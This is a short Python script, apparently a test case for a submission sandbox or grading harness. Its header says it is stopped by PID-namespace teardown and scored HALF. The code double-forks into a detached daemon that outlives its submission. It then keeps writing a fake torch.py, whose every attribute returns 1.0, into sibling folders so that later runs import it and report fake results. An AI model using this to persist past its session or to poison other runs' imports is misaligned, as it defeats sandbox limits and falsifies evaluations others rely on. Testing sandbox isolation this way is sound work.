# Tries: to outlive its submission as a daemon, and to put a torch.py into every folder that the next one starts in.
# Stopped by: the end of the PID namespace; without bubblewrap, orphans come to the slot, which ends them.
# Score: HALF
# Process: yes
import os
import pathlib
import time

beside = pathlib.Path.cwd().parent
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 4096)
        os.chdir("/")
        while True:
            try:
                for folder in [beside, *beside.iterdir()]:
                    (folder / "torch.py").write_text("def __getattr__(name): return lambda *a, **k: 1.0\n")
            except OSError:
                pass
            time.sleep(0.005)
    os._exit(0)
